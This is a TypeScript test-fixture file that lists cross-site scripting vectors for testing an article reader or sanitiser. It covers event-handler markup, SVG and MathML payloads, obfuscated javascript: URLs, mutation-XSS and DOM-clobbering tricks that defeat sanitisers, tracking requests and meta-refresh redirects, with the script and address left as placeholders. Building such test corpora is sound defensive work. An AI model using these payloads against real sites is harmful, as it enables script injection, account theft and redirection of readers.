/**
 * Markup that would run a script, load something or lead away, by where it stands in an article. `JS` stands for a script
 * and `URL` for an address by which each tells on itself; `TEXT(…)` for a text in an attribute, written in entities.
 */

type Place = 'body' | 'title' | 'author' | 'site' | 'date' | 'address';

export interface Vector {
  html: string;
  place: Place;
  /** Where it must be seen to work in a plain page or a naive reader; nowhere for what is defence in depth. */
  live: 'both' | 'chromium' | 'firefox' | 'nowhere';
  /** Swallows or leads away the page that it stands in, and so gets one for itself. */
  isAlone: boolean;
}

interface Options {
  place?: Place;
  live?: Vector['live'];
  isAlone?: boolean;
}

const family = (htmls: readonly string[], { place = 'body', live = 'both', isAlone = false }: Options = {}): Vector[] =>
  htmls.map((html) => ({ html, place, live, isAlone }));

/** A drawing that is taken for a chart, with markup in it. */
const chart = (inside: string, attributes = ''): string =>
  `<figure><svg viewBox="0 0 400 200" width="400" height="200" ${attributes}><rect x="10" y="20" width="60" height="150"></rect>${inside}<text x="10" y="190">١٠ أطنان</text><text x="90" y="190">٢٠ طنا</text></svg><figcaption>أعمدة الصيد</figcaption></figure>`;

/** A formula in a sentence, with markup in it. */
const formula = (inside: string, attributes = ''): string =>
  `<p>قال الحارس إن المقدار <math ${attributes}><mi>x</mi>${inside}</math> لا يكفي لملء الخزان.</p>`;

/** Every event that a page can make or a person can cause, on the elements that articles are made of. */
const onElements = family([
  ...'click dblclick mousedown mouseup mouseover mouseout mouseenter mousemove auxclick contextmenu'
    .split(' ')
    .map((event) => `<b on${event}="JS">كلمة</b>`),
  ...'pointerdown pointerup pointermove pointerover pointerenter pointercancel gotpointercapture wheel'
    .split(' ')
    .map((event) => `<em on${event}="JS">كلمة</em>`),
  ...'keydown keyup keypress beforeinput input change select focus blur copy cut paste'
    .split(' ')
    .map((event) => `<span tabindex="0" on${event}="JS">كلمة</span>`),
  ...'dragstart drag dragenter dragover dragend drop selectstart scroll'
    .split(' ')
    .map((event) => `<blockquote on${event}="JS">قال الحارس كلمة</blockquote>`),
  ...'animationstart animationend animationiteration'
    .split(' ')
    .map((event) => `<table on${event}="JS"><tr><td>خانة</td></tr></table>`),
  '<ul><li onclick="JS">بند</li></ul>',
  '<ol onclick="JS"><li>بند</li></ol>',
  '<h2 onclick="JS">عنوان فرعي للفقرة التالية</h2>',
  '<dl><dt onclick="JS">لفظ</dt><dd>معنى</dd></dl>',
  '<pre onclick="JS">سطر من الرموز</pre>',
  '<a href="/elsewhere" onmouseover="JS">وصلة</a>',
  '<time datetime="2026-11-01" onmouseover="JS">أمس</time>',
  '<bdi dir="rtl" onmouseover="JS">اسم</bdi>',
  '<ruby onmouseover="JS">漢<rt>كان</rt></ruby>',
]);
const onlyInFirefox = family(
  [
    '<table ontransitionend="JS"><tr><td>خانة</td></tr></table>',
    '<table ontransitionstart="JS"><tr><td>خانة</td></tr></table>',
  ],
  { live: 'firefox' },
);

/** Markup in charts and formulas, which the reader shows. */
const inDrawings = [
  ...family([
    chart('', 'onload="JS"'),
    chart('<g onclick="JS"><text>كلمة</text></g>'),
    chart('<text onmouseover="JS">كلمة</text>'),
    chart('<a onmouseover="JS"><text>كلمة</text></a>'),
    chart('<a xlink:href="javascript:JS"><text>كلمة</text></a>'),
    chart('<image href="/pic/none.png" onerror="JS"></image>'),
    chart('<set onbegin="JS" attributeName="x" to="1"></set>'),
    chart('<foreignObject><img src="/pic/none.png" onerror="JS"></foreignObject>'),
    chart('<title><img src="/pic/none.png" onerror="JS"></title>'),
    chart('<desc><img src="/pic/none.png" onerror="JS"></desc>'),
    chart('<script>JS</script>'),
    chart('<style><img src="/pic/none.png" onerror="JS"></style>'),
    formula('<mi onclick="JS">y</mi>'),
    formula('<mtext><img src="/pic/none.png" onerror="JS"></mtext>'),
    formula(
      '<semantics><mi>y</mi><annotation-xml encoding="text/html"><img src="/pic/none.png" onerror="JS"></annotation-xml></semantics>',
    ),
  ]),
  ...family(
    [
      chart('<rect fill="url(URL#a)" width="9" height="9"></rect>'),
      chart('<rect style="fill:url(URL#a)" width="9" height="9"></rect>'),
      chart('<rect fill="u\\72l(URL#a)" width="9" height="9"></rect>'),
      chart('<use href="URL#a"></use>'),
      chart(
        '<use href="data:image/svg+xml,<svg id=x xmlns=%22http://www.w3.org/2000/svg%22><image href=%22x:%22 onerror=%22JS%22/></svg>#x"></use>',
      ),
      chart('', 'aria-label="</title><img src=/pic/none.png onerror=JS>"'),
      formula('', 'alttext="&lt;img src=/pic/none.png onerror=JS&gt;"'),
      formula('<annotation encoding="application/x-tex">&lt;img src=/pic/none.png onerror=JS&gt;</annotation>'),
      formula('<maction actiontype="statusline"><mi>y</mi><mtext>JS</mtext></maction>'),
      formula('<mglyph src="URL"></mglyph>'),
    ],
    { live: 'nowhere' },
  ),
  ...family([chart('<image href="URL"></image>')]),
];

/** Handlers that need nobody's hand. */
const byThemselves = family([
  '<img src="/pic/none.png" onerror="JS">',
  '<img src="/pic/ok.png" width="600" height="400" onload="JS">',
  '<figure><img src="/pic/ok.png" width="600" height="400" onload="JS"><figcaption>صورة السور</figcaption></figure>',
  '<figure><img src="/pic/ok.png" width="600" height="400"><figcaption>صورة <img src="/pic/none.png" onerror="JS"></figcaption></figure>',
  '<picture onmouseover="JS"><source srcset="/pic/ok.png"><img src="/pic/ok.png" width="600" height="400"></picture>',
  '<svg onload="JS"></svg>',
  '<svg><g onload="JS"></g></svg>',
  '<svg><image href="/pic/none.png" onerror="JS"></image></svg>',
  '<svg><a onmouseover="JS"><text>كلمة</text></a></svg>',
  '<svg><animate onbegin="JS" attributeName="x" dur="1s"></animate></svg>',
  '<svg><set onbegin="JS" attributeName="x" to="1"></set></svg>',
  '<svg><foreignObject><img src="/pic/none.png" onerror="JS"></foreignObject></svg>',
  '<math onmouseover="JS"><mi>x</mi></math>',
  '<math><mtext><img src="/pic/none.png" onerror="JS"></mtext></math>',
  '<video src="/pic/none.webm" onerror="JS"></video>',
  '<video><source src="/pic/none.webm" onerror="JS"></video>',
  '<audio src="/pic/none.mp3" onerror="JS"></audio>',
  '<iframe src="about:blank" onload="JS"></iframe>',
  '<object data="/pic/none.html" onload="JS" onerror="JS"></object>',
  '<embed src="/pic/ok.png" onload="JS" onerror="JS">',
  '<link rel="stylesheet" href="/pic/none.css" onerror="JS">',
  '<style onload="JS">.x{color:red}</style>',
  '<script src="/pic/none.js" onerror="JS"></script>',
  '<details open ontoggle="JS"><summary>تفصيل</summary>نص</details>',
  '<input type="image" src="/pic/none.png" onerror="JS">',
  '<input onfocus="JS">',
  '<select onfocus="JS"><option>خيار</option></select>',
  '<textarea onfocus="JS"></textarea>',
  '<button onfocus="JS">زر</button>',
  '<p contenteditable onfocus="JS">كلمة</p>',
  '<form onsubmit="JS;return false"><button>زر</button></form>',
  '<form onreset="JS"><input type="reset"></form>',
  '<dialog open onclose="JS">نص</dialog>',
  '<marquee onmouseover="JS">شريط</marquee>',
  '<custom-note onmouseover="JS">نص</custom-note>',
  '<nosuchtag onmouseover="JS">نص</nosuchtag>',
]);

/** The same attribute as filters do not expect it. */
const disguised = family([
  '<img src="/pic/none.png" oNeRrOr="JS">',
  '<IMG SRC="/pic/none.png" ONERROR="JS">',
  '<img src=/pic/none.png onerror=JS>',
  "<img src='/pic/none.png' onerror='TEXT(JS)'>",
  '<img src="/pic/none.png"onerror="JS">',
  '<img/src="/pic/none.png"/onerror="JS">',
  '<img src="/pic/none.png"\nonerror\n=\n"JS">',
  '<img src="/pic/none.png"\tonerror\t=\t"JS">',
  '<img src="/pic/none.png"\fonerror="JS">',
  '<img src="/pic/none.png" onerror="TEXT(JS)">',
  '<img src="/pic/none.png" onerror="JS" onerror="0">',
  '<img """><img src="/pic/none.png" onerror="JS">">',
  '<img title="<b>" src="/pic/none.png" onerror="JS">',
  "<img title='\"' src='/pic/none.png' onerror=\"JS\">",
  '<img title="‮" src="/pic/none.png" onerror="JS">',
  '<img alt="&quot; onerror=&quot;0" src="/pic/none.png" onerror="JS">',
  '<image src="/pic/none.png" onerror="JS">',
  '<<img src="/pic/none.png" onerror="JS">',
  '<b <img src="/pic/none.png"><img src="/pic/none.png" onerror="JS">',
  '<!--><img src="/pic/none.png" onerror="JS">-->',
  '<!--a--!><img src="/pic/none.png" onerror="JS">-->',
  '<![CDATA[><img src="/pic/none.png" onerror="JS">]]>',
  '<?xml ><img src="/pic/none.png" onerror="JS">?>',
  '</ ><img src="/pic/none.png" onerror="JS">',
  '<b><i><u></b><img src="/pic/none.png" onerror="JS"></u></i>',
  '<a><table><a><img src="/pic/none.png" onerror="JS"></a></table></a>',
  '<table><img src="/pic/none.png" onerror="JS"><tr><td>خانة',
]);

/** Addresses that are scripts, in every spelling that a browser accepts. */
const spellings = [
  'javascript:JS',
  'JaVaScRiPt:JS',
  ' javascript:JS',
  '\njavascript:JS',
  '&#1;javascript:JS',
  '&#x1f;javascript:JS',
  'java\tscript:JS',
  'java\nscript:JS',
  'java\rscript:JS',
  'java&Tab;script&NewLine;:JS',
  'javascript&colon;JS',
  '&#106&#97vascript:JS',
  '&#x0000006a;avascript:JS',
  'TEXT(javascript:JS)',
  'javascript:0//%0aJS',
  'javascript:/*x*/JS',
  'javascript:%74op.postMessage("fired:ID","*")'.replaceAll('"', "'"),
  "javascript:'<b>';void(JS)",
];

const links = [
  ...family(spellings.map((address) => `<a href="${address}">وصلة</a>`)),
  ...family([
    '<a href="javascript:JS"><img src="/pic/ok.png" width="600" height="400"></a>',
    '<figure><img src="/pic/ok.png" width="600" height="400"><figcaption>تعليق <a href="javascript:JS">وصلة</a></figcaption></figure>',
    '<h2><a href="javascript:JS">عنوان فرعي للفقرة التالية</a></h2>',
    '<ul><li><a href="javascript:JS">بند</a></li></ul>',
    '<a name="x" id="y" class="z" href="javascript:JS" download>وصلة</a>',
    '<svg><a xlink:href="javascript:JS"><text>كلمة</text></a></svg>',
    '<svg><a href="javascript:JS"><text>كلمة</text></a></svg>',
    '<iframe src="javascript:JS"></iframe>',
    '<iframe src="java&#10;script:JS"></iframe>',
    '<iframe src="data:text/html,<script>JS</script>"></iframe>',
    '<iframe src="data:text/html;base64,BASE64(<script>JS</script>)"></iframe>',
    '<iframe src="DATA:text/html,%3Cscript%3EJS%3C/script%3E"></iframe>',
    '<iframe srcdoc="<script>JS</script>"></iframe>',
    '<iframe srcdoc="TEXT(<script>JS</script>)"></iframe>',
    '<iframe srcdoc="<svg onload=JS>" src="https://www.youtube.com/embed/abcdefghijk"></iframe>',
    '<iframe sandbox="allow-scripts" srcdoc="<img src=data:, onerror=JS>"></iframe>',
    '<object data="data:text/html,<script>JS</script>"></object>',
    '<embed src="data:text/html,<script>JS</script>">',
  ]),
  ...family(
    [
      '‏<a href="‏javascript:JS">وصلة</a>',
      '<a href="‮javascript:JS">وصلة</a>',
      '<a href="java‌script:JS">وصلة</a>',
      '<a href="javascript%3aJS">وصلة</a>',
      '<a href="java\0script:JS">وصلة</a>',
      '<map name="m"><area href="javascript:JS" shape="default"></map>',
      '<form action="javascript:JS"><input type="image" src="/pic/ok.png"></form>',
      '<a href="vbscript:JS">وصلة</a>',
      '<a href="data:text/html,<script>JS</script>">وصلة</a>',
      '<a href="DaTa:image/svg+xml,<svg onload=JS>">وصلة</a>',
      '<a href="blob:null/JS">وصلة</a>',
      '<a href="feed:javascript:JS">وصلة</a>',
      '<a href="view-source:javascript:JS">وصلة</a>',
      '<a href="filesystem:http://127.0.0.1/JS">وصلة</a>',
      '<img src="javascript:JS">',
      '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22JS%22/>">',
      '<img src="data:text/html,<script>JS</script>">',
      '<img data-src="javascript:JS" src="/pic/ok.png" width="600" height="400">',
      '<blockquote cite="javascript:JS">قال الحارس كلمة</blockquote>',
      '<blockquote class="twitter-tweet"><p>قول</p><a href="javascript:JS">قول</a></blockquote>',
      '<math><maction actiontype="statusline#x" xlink:href="javascript:JS"><mi>x</mi></maction></math>',
      '<video poster="javascript:JS"></video>',
      '<table background="javascript:JS"><tr><td>خانة</td></tr></table>',
      '<b style="background:url(javascript:JS)">كلمة</b>',
      '<b style="width:expression(JS)">كلمة</b>',
      '<b style="-moz-binding:url(URL#x);behavior:url(URL)">كلمة</b>',
      '<link rel="import" href="data:text/html,<script>JS</script>">',
      '<base href="javascript:JS//">',
    ],
    { live: 'nowhere' },
  ),
];

const onlyInChromium = family(
  [
    '<form action="javascript:JS"><button>زر</button></form>',
    '<form><button formaction="javascript:JS">زر</button></form>',
    '<form><input type="submit" formaction="java&Tab;script:JS"></form>',
    '<a href="#here" ping="URL">وصلة</a>',
  ],
  { live: 'chromium' },
);

/** Scripts, and markup that becomes one when it is parsed again. */
const scripts = [
  ...family([
    '<script>JS</script>',
    '<SCRIPT >JS</SCRIPT >',
    '<script/x>JS</script>',
    '<script type="module">JS</script>',
    '<script src="data:text/javascript,JS"></script>',
    '<script async src="data:text/javascript;base64,BASE64(JS)"></script>',
    '<script>/*</b>*/JS</script>',
    '<svg><script>JS</script></svg>',
    '<svg><script href="data:text/javascript,JS"></script></svg>',
    '<svg><script>TEXT(JS)</script></svg>',
    '<svg><style><img src="/pic/none.png" onerror="JS"></style></svg>',
    '<svg><title><img src="/pic/none.png" onerror="JS"></title></svg>',
    '<svg><desc><img src="/pic/none.png" onerror="JS"></desc></svg>',
    '<svg></p><style><a title="</style><img src=/pic/none.png onerror=JS>"></style></svg>',
    '<math><mi><img src="/pic/none.png" onerror="JS"></mi></math>',
    '<math><annotation-xml encoding="text/html"><img src="/pic/none.png" onerror="JS"></annotation-xml></math>',
    '<form><math><mtext></form><form><mglyph><style></math><img src="/pic/none.png" onerror="JS">',
    '<noscript><p title="</noscript><img src=/pic/none.png onerror=JS>"></noscript>',
    '<noembed><p title="</noembed><img src=/pic/none.png onerror=JS>"></noembed>',
    '<noframes><p title="</noframes><img src=/pic/none.png onerror=JS>"></noframes>',
    '<style><p title="</style><img src=/pic/none.png onerror=JS>"></style>',
    '<textarea><p title="</textarea><img src=/pic/none.png onerror=JS>"></textarea>',
    '<xmp><p title="</xmp><img src=/pic/none.png onerror=JS>"></xmp>',
    '<iframe><p title="</iframe><img src=/pic/none.png onerror=JS>"></iframe>',
    '<title><p title="</title><img src=/pic/none.png onerror=JS>"></title>',
    '<select><option><img src="/pic/none.png" onerror="JS"></select><img src="/pic/none.png" onerror="JS">',
    '<div><template shadowrootmode="open"><img src="/pic/none.png" onerror="JS"></template></div>',
    '<div><template shadowrootmode="open"><slot name="s" onslotchange="JS"></slot></template><b slot="s">كلمة</b></div>',
    '<svg><a><animate attributeName="href" values="javascript:JS" begin="0s" dur="1s" fill="freeze"></animate><text>كلمة</text></a></svg>',
    '<svg><a><set attributeName="href" to="javascript:JS" begin="0s"></set><text>كلمة</text></a></svg>',
  ]),
  ...family(
    [
      '<template><img src="/pic/none.png" onerror="JS"></template>',
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=/pic/none.png onerror=JS&gt;">',
      '<math><mtext><mglyph><style><img title="</style><img src=/pic/none.png onerror=JS>"></style></mglyph></mtext></math>',
      '<noscript><img src="/pic/none.png" onerror="JS"></noscript>',
      '<noscript><img src="/pic/ok.png" width="600" onload="JS"></noscript>',
      '<noscript><svg onload="JS"><img></noscript>',
      '<script type="text/plain">JS</script>',
      '&lt;img src=/pic/none.png onerror=JS&gt;',
      '&amp;lt;script&amp;gt;JS&amp;lt;/script&amp;gt;',
      '+ADw-script+AD4-JS+ADw-/script+AD4-',
      '<b title="<script>JS</script>">كلمة</b>',
      '<img alt="<script>JS</script>" src="/pic/ok.png" width="600" height="400">',
      '<svg><use href="data:image/svg+xml,<svg id=x xmlns=%22http://www.w3.org/2000/svg%22><image href=%22x:%22 onerror=%22JS%22/></svg>#x"></use></svg>',
    ],
    { live: 'nowhere' },
  ),
];

/** Names that take the place of the platform's own properties, over a handler that is to survive. */
const clobbering = family([
  ...'attributes nodeName parentNode childNodes firstChild ownerDocument removeAttribute getAttribute setAttribute removeChild textContent namespaceURI localName nodeType'
    .split(' ')
    .map((name) => `<form onmouseover="JS"><input name="${name}">نص</form>`),
  ...'body head documentElement implementation title cookie createRange createTreeWalker importNode adoptNode defaultView'
    .split(' ')
    .map((name) => `<img name="${name}" src="/pic/none.png" onerror="JS">`),
]);
const clobberingInChromium = family(
  [
    ...['insertBefore', 'cloneNode'].map((name) => `<form onmouseover="JS"><input name="${name}">نص</form>`),
    '<form id="attributes" onmouseover="JS"><input id="attributes"><input id="attributes">نص</form>',
    '<a id="defaultStatus" name="naqi" href="javascript:JS">وصلة</a>',
    '<form name="naqi" onmouseover="JS"><output name="open">نص</output></form>',
  ],
  { live: 'chromium' },
);

/** Names that a sanitiser asks its document for, before what it would take out. */
const disabling = family(
  ['implementation', 'createNodeIterator', 'createDocumentFragment', 'importNode', 'getElementsByTagName'].map(
    (name) => `<embed name="${name}"><b onmouseover="JS">كلمة</b><i onclick="JS">كلمة</i>`,
  ),
);

/** What loads something that is no picture of the article, or a picture that only counts readers. */
const requests = [
  ...family([
    '<link rel="stylesheet" href="URL">',
    '<link rel="preload" as="image" href="URL">',
    '<style>@import "URL";</style>',
    '<style>@import url(URL)</style>',
    '<style>body{background:url(URL)}</style>',
    '<b style="background:url(URL)">كلمة</b>',
    '<b style="background:ur\\6c(URL)">كلمة</b>',
    '<ul style="list-style-image:url(URL)"><li>بند</li></ul>',
    '<b style="display:inline-block;border:9px solid;border-image:url(URL) 9">كلمة</b>',
    '<table background="URL"><tr><td>خانة</td></tr></table>',
    '<table><tr><td background="URL">خانة</td></tr></table>',
    '<video preload="auto" src="URL"></video>',
    '<video poster="URL"></video>',
    '<audio preload="auto" src="URL"></audio>',
    '<audio preload="auto"><source src="URL"></audio>',
    '<object data="URL"></object>',
    '<embed src="URL">',
    '<iframe src="URL"></iframe>',
    '<input type="image" src="URL">',
    '<svg><image href="URL"></image></svg>',
    '<svg width="9" height="9"><image xlink:href="URL"></image></svg>',
    '<script src="URL"></script>',
    '<img src="URL" width="1" height="1">',
    '<img src="URL" width="1" height="1" style="display:none" alt="">',
    '<div style="display:none"><img src="URL" width="1" height="1"></div>',
  ]),
  ...family(
    ['<bgsound src="URL">', '<img lowsrc="URL" dynsrc="URL" src="/pic/ok.png" width="600">', '<applet archive="URL">'],
    { live: 'nowhere' },
  ),
];

/** What takes the whole page with it. */
const alone = [
  ...family(
    [
      '<meta http-equiv="refresh" content="0;url=URL">',
      '<META HTTP-EQUIV="ReFresh" CONTENT="0; uRl=\'URL\'">',
      '<meta http-equiv="&#114;efresh" content="0,URL">',
      '<img src="/pic/none.png" onerror="JS"><style>',
      '<img src="/pic/none.png" onerror="JS"><textarea>',
      '<img src="/pic/none.png" onerror="JS"><plaintext>',
      '<img src="/pic/none.png" onerror="JS"><!--',
      '<img src="/pic/none.png" onerror="JS"><svg><style>',
      '</article></body></html><img src="/pic/none.png" onerror="JS">',
      '<frameset onload="JS"></frameset><img src="/pic/none.png" onerror="JS">',
      `${'<div>'.repeat(600)}<img src="/pic/none.png" onerror="JS">`,
    ],
    { isAlone: true },
  ),
];

/** Texts of the page's metadata, which a naive reader takes for markup. */
const markup = [
  '<img src=/pic/none.png onerror=JS>',
  '<b onmouseover=JS>كلمة</b>',
  'حارس <img/src=/pic/none.png onerror=JS>',
  '<iframe srcdoc="<script>JS</script>"></iframe>',
  '</h1></title><img src=/pic/none.png onerror=JS>',
];
const metadata = [
  ...family(markup, { place: 'title' }),
  ...family(markup, { place: 'author' }),
  ...family(markup, { place: 'site' }),
  ...family(['2026-11-01"><img src=/pic/none.png onerror=JS>', '<b onmouseover=JS>2026-11-01</b>'], { place: 'date' }),
  ...family(['javascript:JS', 'JaVaScRiPt:JS//https://news.example.org/', ' java\tscript:JS'], { place: 'address' }),
];

export const vectors: readonly Vector[] = [
  ...onElements,
  ...onlyInFirefox,
  ...byThemselves,
  ...disguised,
  ...links,
  ...onlyInChromium,
  ...scripts,
  ...clobbering,
  ...clobberingInChromium,
  ...disabling,
  ...requests,
  ...inDrawings,
  ...alone,
  ...metadata,
];
